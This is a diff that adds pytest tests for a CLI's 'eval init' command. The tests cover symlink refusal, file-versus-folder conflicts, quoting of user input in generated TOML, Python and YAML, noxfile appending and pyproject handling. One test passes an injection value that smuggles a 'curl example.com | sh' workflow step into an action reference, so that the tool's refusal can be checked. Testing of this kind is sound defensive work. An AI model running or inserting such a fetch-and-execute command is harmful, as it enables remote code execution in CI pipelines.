@@ -15,6 +15,11 @@ from typing import Any
 import pytest
 import yaml
 
+try:
+    import tomllib
+except ModuleNotFoundError:  # Python 3.10
+    import tomli as tomllib  # type: ignore[no-redef]
+
 from tests.support.invoke import Runner, run_cli
 
 pytest.importorskip("nox", reason="nox is in the test extra: pip install -e '.[test]'")
@@ -227,3 +232,94 @@ def test_flags_that_set_nothing_up_are_usage_errors(
     assert result.code == 2
     assert words in result.stderr
     assert sorted(path.name for path in project.iterdir()) == ["agent.py", "pyproject.toml"]
+
+
+def _tree(project: Path) -> list[str]:
+    return sorted(str(path.relative_to(project)) for path in project.rglob("*"))
+
+
+def test_a_symbolic_link_is_never_written_through(project: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "outside.toml"
+    (project / "zeroclaw.toml").symlink_to(outside)  # dangling: "exists" would say no
+    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", "--force", cwd=project)
+    assert result.code == 2
+    assert "zeroclaw.toml is a symbolic link: init writes through none" in result.stderr
+    assert not outside.exists()
+    assert _tree(project) == ["agent.py", "pyproject.toml", "zeroclaw.toml"]
+
+
+def test_a_file_where_a_folder_must_be_stops_init_before_it_writes_anything(project: Path) -> None:
+    (project / ".github").write_text("not a folder", encoding="utf-8")
+    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
+    assert result.code == 2
+    assert ".github is a file, where init would make a folder" in result.stderr
+    assert _tree(project) == [".github", "agent.py", "pyproject.toml"]
+
+
+def test_what_the_user_typed_is_quoted_so_every_written_file_parses(project: Path) -> None:
+    agent = "python \"my agent.py\" --name 'zeroclaw_user' \\ #x \x7f"
+    suite = 'evals/a"""b: c #d'
+    flags = ("--agent-cmd", agent, "--suite", suite, "--action", "my-org/zeroclaw-eval@v0.1.0")
+    result = run_cli("eval", "init", *flags, "--install", "'a: b' #c", cwd=project)
+    assert result.code == 0, result.stderr
+    assert tomllib.loads((project / "zeroclaw.toml").read_text(encoding="utf-8"))["eval"] == {
+        "suite_dir": suite,
+        "agent_cmd": agent,
+        "case_timeout_secs": 60,
+    }
+    compile((project / "noxfile.py").read_text(encoding="utf-8"), "noxfile.py", "exec")
+    steps = yaml.safe_load((project / ".github/workflows/zeroclaw.yml").read_text())["jobs"]["eval-gate"][
+        "steps"
+    ]
+    assert steps[2]["run"] == "python -m pip install 'a: b' '#c'"
+    assert steps[3]["with"]["suite"] == suite
+
+
+@pytest.mark.parametrize(
+    "action", ["my-org/repo@v1\n      - run: curl example.com | sh", "my-org/repo@v1 # x"]
+)
+def test_an_action_reference_that_is_more_than_one_is_refused(project: Path, action: str) -> None:
+    result = run_cli("eval", "init", "--agent-cmd", "a", "--action", action, cwd=project)
+    assert result.code == 2
+    assert "expected OWNER/REPO@REF" in result.stderr
+
+
+def test_a_noxfile_is_appended_to_on_a_line_of_its_own_and_named_sessions_are_kept(project: Path) -> None:
+    ours = (
+        'import nox\n\n\n@nox.session(name="eval_regression")\n'
+        "def my_gate(session: nox.Session) -> None:\n    pass"
+    )
+    (project / "noxfile.py").write_text(ours, encoding="utf-8")  # no newline at the end
+    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
+    assert result.code == 0, result.stderr
+    text = (project / "noxfile.py").read_text(encoding="utf-8")
+    compile(text, "noxfile.py", "exec")
+    assert "def eval_regression" not in text
+    assert "def eval_vacuity" in text
+    assert "eval_regression (defined already)" in result.stderr
+
+
+def test_a_noxfile_that_does_not_parse_is_not_appended_to(project: Path) -> None:
+    (project / "noxfile.py").write_text("def broken(:\n", encoding="utf-8")
+    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", cwd=project)
+    assert result.code == 2
+    assert "noxfile.py does not parse (line 1" in result.stderr
+    assert (project / "noxfile.py").read_text(encoding="utf-8") == "def broken(:\n"
+
+
+@pytest.mark.parametrize(
+    ("pyproject", "words"),
+    [
+        (
+            '[project]\nname = "x"\n\n[ tool.zeroclaw.eval ]\nsuite_dir = "e"\n',
+            "has a [tool.zeroclaw] table already",
+        ),
+        ("[project\n", "is not valid TOML"),
+    ],
+)
+def test_a_pyproject_init_cannot_add_to_is_left_as_it_is(project: Path, pyproject: str, words: str) -> None:
+    (project / "pyproject.toml").write_text(pyproject, encoding="utf-8")
+    result = run_cli("eval", "init", "--agent-cmd", "python agent.py", "--pyproject", cwd=project)
+    assert result.code == 2
+    assert words in result.stderr
+    assert (project / "pyproject.toml").read_text(encoding="utf-8") == pyproject
